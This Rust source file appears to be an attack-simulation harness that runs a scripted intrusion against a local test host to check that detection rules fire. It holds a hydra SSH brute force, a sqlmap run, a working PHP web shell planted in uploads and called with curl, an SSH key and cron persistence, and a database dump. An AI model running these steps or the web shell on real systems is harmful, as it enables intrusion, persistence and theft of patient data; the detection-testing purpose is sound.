//! What the attacker does, in order, and which rules must tell of it.

use std::fs;
use std::io::Write;
use std::process::{Command, Stdio};

use anyhow::{Context, ensure};

use super::host::{ACCOUNT, CRON_FILE, Host, PASSWORD, run};
use super::program;

/// One step.
pub(super) struct Step {
    pub(super) what: &'static str,
    pub(super) run: fn(&Host) -> anyhow::Result<()>,
    /// Titles of rules that must have told when it is over.
    pub(super) expected: &'static [&'static str],
}

pub(super) const STEPS: &[Step] = &[
    Step {
        what: "passwords are guessed with hydra, until one fits",
        run: guess,
        expected: &["SSH brute force", "SSH login after brute force"],
    },
    Step {
        what: "the portal is tried with sqlmap",
        run: inject,
        expected: &["SQL injection in a request"],
    },
    Step {
        what: "a web shell is left among the uploads, and called",
        run: shell,
        expected: &["Web shell called"],
    },
    Step {
        what: "a job and a key are left behind",
        run: persist,
        expected: &["Scheduled job changed", "Authorised SSH keys changed"],
    },
    Step { what: "the database is dumped", run: dump, expected: &["Database dumped"] },
];

/// Where the shell is left, below the pages.
const SHELL: &str = "uploads/avatar.php";

fn guess(host: &Host) -> anyhow::Result<()> {
    let list = host.folder.join("passwords");
    let mut passwords: Vec<&str> = vec![
        "123456", "password", "hospital", "admin123", "Passw0rd", "qwe123", "1qaz2wsx", "welcome1",
    ];
    passwords.push(&PASSWORD);
    fs::write(&list, passwords.join("\n") + "\n")?;
    let output = Command::new(program("hydra")?)
        .args(["-l", ACCOUNT, "-t", "2", "-f", "-I", "-P"])
        .arg(&list)
        .arg(format!("ssh://127.0.0.1:{}", host.ssh))
        .current_dir(&host.folder)
        .output()?;
    let said = String::from_utf8_lossy(&output.stdout);
    let found = said.lines().find(|line| line.contains("login:"));
    println!("    {}", found.context("hydra found nothing")?);
    Ok(())
}

fn inject(host: &Host) -> anyhow::Result<()> {
    let output = Command::new(program("timeout")?)
        .arg("60")
        .arg(program("sqlmap")?)
        .args([
            "--batch",
            "--level=1",
            "--risk=1",
            "--threads=1",
            "--timeout=5",
            "--retries=0",
            "-u",
        ])
        .arg(format!("http://127.0.0.1:{}/patient.php?id=1", host.web))
        .arg("--output-dir")
        .arg(host.folder.join("sqlmap"))
        .env("HOME", &host.folder)
        .env("TMPDIR", &host.folder)
        .output()?;
    let said = String::from_utf8_lossy(&output.stdout);
    let word = |line: &&str| line.contains("WARNING") || line.contains("CRITICAL");
    println!("    {}", said.lines().rfind(word).unwrap_or("sqlmap said nothing"));
    Ok(())
}

fn shell(host: &Host) -> anyhow::Result<()> {
    let page = "<?php system(base64_decode($_POST['k'] ?? '')); ?>\n";
    ssh(host, &format!("cat > {}/{SHELL}", host.www().display()), page)?;
    // `id; uname -a`, in base64.
    for _ in 0..2 {
        let output = Command::new(program("curl")?)
            .args(["-s", "-d", "k=aWQ7IHVuYW1lIC1h"])
            .arg(format!("http://127.0.0.1:{}/{SHELL}", host.web))
            .output()?;
        let said = String::from_utf8_lossy(&output.stdout).into_owned();
        ensure!(said.contains("www-data"), "the shell answered: {said}");
        println!("    it answered: {}", said.lines().next().unwrap_or_default());
    }
    Ok(())
}

fn persist(host: &Host) -> anyhow::Result<()> {
    let key = host.folder.join("attacker_key");
    run(Command::new(program("ssh-keygen")?)
        .args(["-q", "-t", "ed25519", "-N", "", "-f"])
        .arg(&key))?;
    let public = fs::read_to_string(key.with_extension("pub"))?;
    ssh(host, "mkdir -p -m 700 ~/.ssh && cat >> ~/.ssh/authorized_keys", &public)?;
    ssh(host, "crontab -", "0 0 1 1 * /bin/true\n")?;
    let job = "0 0 1 1 * root /bin/true\n";
    ssh(host, &format!("sudo tee {CRON_FILE} > /dev/null"), job)?;
    println!("    a key, a crontab and {CRON_FILE}");
    Ok(())
}

fn dump(host: &Host) -> anyhow::Result<()> {
    let output = host.database_client("pg_dump")?.args(["-d", "his"]).output()?;
    ensure!(output.status.success(), "pg_dump: {}", String::from_utf8_lossy(&output.stderr));
    println!("    {} bytes of SQL", output.stdout.len());
    Ok(())
}

/// A command over SSH with the password that was found, fed with `input`.
fn ssh(host: &Host, command: &str, input: &str) -> anyhow::Result<()> {
    let askpass = host.folder.join("askpass");
    fs::write(&askpass, format!("#!/bin/sh\necho {}\n", *PASSWORD))?;
    run(Command::new(program("chmod")?).arg("755").arg(&askpass))?;
    let mut child = Command::new(program("ssh")?)
        .args([
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
            "-o",
            "LogLevel=ERROR",
        ])
        .args(["-p", &host.ssh.to_string(), &format!("{ACCOUNT}@127.0.0.1"), command])
        .env("SSH_ASKPASS", &askpass)
        .env("SSH_ASKPASS_REQUIRE", "force")
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()?;
    child.stdin.take().context("a pipe")?.write_all(input.as_bytes())?;
    let output = child.wait_with_output()?;
    let said = String::from_utf8_lossy(&output.stderr);
    ensure!(output.status.success(), "`{command}` over SSH ended with {}: {said}", output.status);
    Ok(())
}
